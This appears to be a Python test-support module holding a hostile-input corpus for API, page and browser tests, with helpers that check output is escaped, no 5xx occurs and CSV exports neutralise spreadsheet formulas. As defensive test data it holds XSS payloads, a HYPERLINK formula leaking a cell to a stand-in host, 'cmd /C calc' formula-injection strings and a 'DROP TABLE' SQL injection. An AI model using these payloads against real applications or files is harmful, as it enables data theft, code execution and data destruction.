"""The hostile-input corpus the API, page and browser tests send everywhere.

Strings go to every text field, dates to every date field, amounts and
currencies to offers, deep JSON to `metadata`. Then every page that shows
what was stored is rendered and checked: no 5xx, markup escaped, CSV cells
that a spreadsheet would run as a formula neutralised.
"""

import csv
import io

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<script>window.__xss=1</script>",
    "'\"><svg onload=window.__xss=1>",
]
# What must never appear unescaped in a page that shows the markup above.
RAW_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<script>window.__xss=1</script>",
    "<svg onload=window.__xss=1>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
STRINGS = [
    "\x00",
    "before\x00after",
    "\ud800",
    "lone \udfff surrogate",
    "x" * 10_000,
    "é" * 10_000,
    *MARKUP,
    *FORMULAS,
    "'; DROP TABLE complaints_case; --",
    "{{ 7*7 }} {% now 'Y' %}",
    "\u202eRTL override\u202c",
    "",
    " ",
]
OFFSETS = ["+14:00", "-12:00", "Z", "+05:45", "-09:30"]
FAR_DATES = [
    f"{day}T{time}{offset}"
    for day, time in (
        ("0001-01-01", "00:00:00"),
        ("1899-12-31", "23:59:00"),
        ("2201-01-01", "00:00:00"),
        ("9999-12-31", "23:30:00"),
    )
    for offset in OFFSETS
] + ["9999-12-31T23:30:00-14:00", "not a date", "2026-02-30T10:00:00Z", "", 0]
AMOUNTS = [
    "-1",
    "-0.01",
    "0",
    "1000000000000",
    "1e12",
    "1e400",
    "99999999999999999999999999",
    "0.001",
    "NaN",
    "Infinity",
    "-Infinity",
    "",
    True,
    [],
    {"amount": 1},
]
CURRENCIES = ["XYZ", "ABC", "eur", "EURO", "€", "\x00\x00\x00", "", "<b>", 840]


def depth_of(value) -> int:
    """How deep dicts and lists nest in `value`, without recursion."""
    deepest, stack = 0, [(value, 1)]
    while stack:
        item, depth = stack.pop()
        if isinstance(item, dict | list):
            deepest = max(deepest, depth)
            children = item.values() if isinstance(item, dict) else item
            stack.extend((child, depth + 1) for child in children)
    return deepest


def nested(depth: int) -> dict:
    value: dict = {}
    for _ in range(depth):
        value = {"x": value}
    return value


METADATA = [
    {"k": "\x00"},
    {"\x00": "v"},
    {"k": "\ud800"},
    {"\udfff": "v"},
    nested(33),
    nested(2_000),
    {f"k{n}": n for n in range(500)},
    {"big": "x" * 20_000},
    {"markup": MARKUP[1], "formula": FORMULAS[0]},
    [1, 2, 3],
    "a string",
]
CORPUS_SIZE = (
    len(STRINGS) + len(FAR_DATES) + len(AMOUNTS) + len(CURRENCIES) + len(METADATA)
)


def assert_escaped(html: str, where: str) -> None:
    for raw in RAW_MARKUP:
        assert raw not in html, f"unescaped markup {raw!r} on {where}"


def assert_not_5xx(response, where: str) -> None:
    assert response.status_code < 500, f"{response.status_code} on {where}"


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8")))
    return [cell for row in rows for cell in row]


def assert_formulas_neutralised(content: bytes, where: str) -> None:
    cells = csv_cells(content)
    for cell in cells:
        for formula in FORMULAS:
            assert cell != formula, f"formula cell {cell!r} in {where}"
        assert not cell.startswith(("=", "+", "@")), f"{cell!r} in {where}"
        if cell.startswith("-"):
            float(cell)  # only a negative number may start with a minus
